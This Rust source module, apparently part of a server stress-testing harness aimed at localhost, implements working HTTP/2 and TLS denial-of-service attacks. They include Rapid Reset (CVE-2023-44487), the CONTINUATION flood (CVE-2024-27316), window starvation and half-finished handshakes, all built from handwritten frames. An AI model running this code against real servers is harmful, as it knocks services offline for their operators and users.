//! Attacks over TLS and HTTP/2, with handwritten frames (RFC 9113).

use std::io::{Result, Write};
use std::net::TcpStream;
use std::time::Duration;

use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, StreamOwned};
use std::sync::Arc;

use crate::http1::greeted;
use crate::stage::{Stage, discard, offer};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A client of HTTP/2, and its next stream.
struct Client {
    stream: StreamOwned<ClientConnection, TcpStream>,
    next: u32,
}

/// TLS handshakes that stop in the middle.
pub(crate) fn half_handshakes(stage: &Stage) {
    stage.crowd(600, || greeted(stage, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 half a greeting"), discard);
}

/// Requests that are cancelled immediately (CVE-2023-44487).
pub(crate) fn rapid_reset(stage: &Stage) {
    let (config, request) = (stage.site.tls("h2"), request(stage.page));
    stage.crowd(
        16,
        || Client::connect(stage, &config, &[]),
        |client| {
            for _ in 0..50 {
                let stream = client.stream();
                let cancelled = [
                    frame(HEADERS, END_STREAM | END_HEADERS, stream, &request),
                    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                ];
                offer(&mut client.stream, &cancelled.concat())?;
            }
            discard(&mut client.stream)
        },
    );
}

/// Request headers without end (CVE-2024-27316).
pub(crate) fn continuation(stage: &Stage) {
    let config = stage.site.tls("h2");
    // a literal header without indexing
    let header = [b"\x00\x03x-a\x7f\x81\x3f".as_slice(), &[b'a'; 8192]].concat();
    let connect = || {
        let mut client = Client::connect(stage, &config, &[])?;
        let stream = client.stream();
        offer(&mut client.stream, &frame(HEADERS, END_STREAM, stream, &request(stage.page)))?;
        Ok((client, stream))
    };
    stage.crowd(32, connect, |(client, stream)| {
        for _ in 0..8 {
            offer(&mut client.stream, &frame(CONTINUATION, 0, *stream, &header))?;
        }
        discard(&mut client.stream)
    });
}

/// Requests whose responses may not be sent, because the window stays closed.
pub(crate) fn window_starvation(stage: &Stage) {
    let (config, request) = (stage.site.tls("h2"), request(stage.page));
    let connect = || {
        let initial_window_size = [0, 4, 0, 0, 0, 0];
        let mut client = Client::connect(stage, &config, &initial_window_size)?;
        for _ in 0..32 {
            let stream = client.stream();
            offer(&mut client.stream, &frame(HEADERS, END_STREAM | END_HEADERS, stream, &request))?;
        }
        Ok(client)
    };
    stage.crowd(100, connect, |client| discard(&mut client.stream));
}

impl Client {
    fn connect(stage: &Stage, config: &Arc<ClientConfig>, settings: &[u8]) -> Result<Self> {
        let socket = stage.connect()?;
        socket.set_nonblocking(false)?;
        socket.set_read_timeout(Some(Duration::from_secs(1)))?;
        let name = ServerName::try_from("localhost").map_err(std::io::Error::other)?;
        let client = ClientConnection::new(config.clone(), name).map_err(std::io::Error::other)?;
        let mut stream = StreamOwned::new(client, socket);
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
        stream.write_all(&frame(SETTINGS, 0, 0, settings))?;
        stream.sock.set_nonblocking(true)?;
        Ok(Self { stream, next: 1 })
    }

    /// The number of a new stream.
    fn stream(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The header block of a GET request (RFC 7541): indexed method and scheme, literal path and authority.
fn request(page: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x04, page.len() as u8];
    block.extend(page.as_bytes());
    block.extend(b"\x01\x09localhost");
    block
}
